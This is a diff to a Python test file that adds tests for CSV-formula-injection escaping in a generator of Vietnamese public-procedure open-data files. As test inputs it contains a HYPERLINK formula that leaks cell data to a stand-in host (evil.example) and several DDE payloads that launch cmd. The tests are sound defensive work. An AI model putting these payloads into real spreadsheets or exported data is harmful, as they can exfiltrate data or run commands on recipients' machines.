@@ -10,14 +10,23 @@ import re
 from pathlib import Path
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from generator import model as m
 from generator.content import Content, load_content
 from generator.facts import Facts
 from generator.outputs.jsonld import commune_ld, json_ld, procedure_ld
-from generator.outputs.opendata import fees_csv, procedures_csv, procedures_json
+from generator.outputs.opendata import (
+    fees_csv,
+    procedures_csv,
+    procedures_json,
+    spreadsheet_text,
+    stats_csv,
+    write_open_data,
+)
 
-from .helpers import PROCEDURE, TODAY, write_tree
+from .helpers import AGENCIES, FEE, FIELDS, PROCEDURE, TODAY, write_tree
 from .test_build import build, read
 
 ROOT = Path(__file__).resolve().parent.parent
@@ -123,3 +132,92 @@ def test_results_of_dossier_handling(demo: Content) -> None:
     rows = list(csv.reader(io.StringIO(stats_csv(demo).decode("utf-8-sig"))))
     assert rows[0][:2] == ["Kỳ", "Phạm vi"]
     assert ["2018-Q1", "huyện Kiến Xương"] == rows[1][:2] and rows[1][3] == "1836"
+
+
+# What a spreadsheet reads as the start of a formula (OWASP "CSV injection"), full-width forms too.
+FORMULA = set("=+-@\t\r\n＝＋－＠")
+
+
+def _cells(raw: bytes) -> list[list[str]]:
+    assert raw.startswith(b"\xef\xbb\xbf")
+    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
+
+
+def _formula_cells(rows: list[list[str]]) -> list[str]:
+    return [cell for row in rows for cell in row if cell[:1] in FORMULA or cell.lstrip(" \u00a0")[:1] in FORMULA]
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        (
+            '=HYPERLINK("https://evil.example/?x="&A1,"Bấm vào đây")',
+            '\'=HYPERLINK("https://evil.example/?x="&A1,"Bấm vào đây")',
+        ),
+        ("+84 227 3821 000", "'+84 227 3821 000"),
+        ("-", "'-"),
+        ("-5", "'-5"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("\n=1+1", "'\n=1+1"),
+        ("  =1+1", "'  =1+1"),
+        ("\u00a0=1+1", "'\u00a0=1+1"),
+        ("＝1+1", "'＝1+1"),
+        ("=\x001", "'=1"),
+        ("Đăng\x00 ký", "Đăng ký"),
+        ("Đăng ký khai sinh", "Đăng ký khai sinh"),
+        ("2.000 đồng; 1+1 = 2", "2.000 đồng; 1+1 = 2"),
+        ("", ""),
+    ],
+)
+def test_spreadsheet_text(value: str, cell: str) -> None:
+    assert spreadsheet_text(value) == cell
+
+
+@given(st.text())
+def test_no_cell_can_start_a_formula(value: str) -> None:
+    cell = spreadsheet_text(value)
+    assert _formula_cells([[cell]]) == []
+    assert cell in (value.replace("\x00", ""), "'" + value.replace("\x00", ""))
+
+
+def test_hostile_names_reach_the_csv_files_as_text(tmp_path: Path) -> None:
+    hyperlink = '=HYPERLINK("https://evil.example/?x="&A1,"Bấm vào đây")'
+    tree = write_tree(
+        tmp_path,
+        {
+            "procedures/1.001193-dang-ky-khai-sinh.yaml": PROCEDURE.replace(
+                "name: Đăng ký khai sinh", f"name: '{hyperlink}'"
+            ).replace("field: ho-tich", "field: ho-tich\ndecision: \"-2+3+cmd|' /C calc'!A0\""),
+            "fees/phi-chung-thuc-ban-sao.yaml": FEE.replace(
+                "name: Phí chứng thực bản sao từ bản chính", "name: \"+1+cmd|' /C calc'!A0\""
+            ).replace("set_by: Bộ Tài chính", "set_by: \"@SUM(1+1)*cmd|' /C calc'!A0\""),
+            "fields.yaml": FIELDS.replace("name: Hộ tịch", 'name: "-Hộ tịch"'),
+            "agencies.yaml": AGENCIES.replace("name: UBND cấp xã", 'name: "=1+1"'),
+        },
+    )
+    content, problems = load_content(tree, TODAY)
+    assert content is not None, problems
+    procedures, fees, stats = (
+        _cells(procedures_csv(content, Facts(content))),
+        _cells(fees_csv(content)),
+        _cells(stats_csv(content)),
+    )
+    for rows in (procedures, fees, stats):
+        assert _formula_cells(rows) == []
+    assert procedures[1][1] == "'" + hyperlink
+    assert procedures[1][2] == "'-Hộ tịch" and procedures[1][4] == "'=1+1"
+    assert procedures[1][8] == "'-2+3+cmd|' /C calc'!A0"
+    assert fees[1][1] == "'+1+cmd|' /C calc'!A0" and fees[1][9] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert "Lĩnh vực -Hộ tịch" in [row[1] for row in stats]  # not at the start: left as it is
+
+
+def test_demo_csv_files_have_no_formula_cells(demo: Content, tmp_path: Path) -> None:
+    names = write_open_data(demo, Facts(demo), tmp_path)
+    csv_files = [name for name in names if name.endswith(".csv")]
+    assert sorted(csv_files) == ["fees.csv", "procedures.csv", "stats.csv"]
+    for name in csv_files:
+        rows = _cells((tmp_path / "data" / name).read_bytes())
+        assert len(rows) > 1
+        assert _formula_cells(rows) == [], name
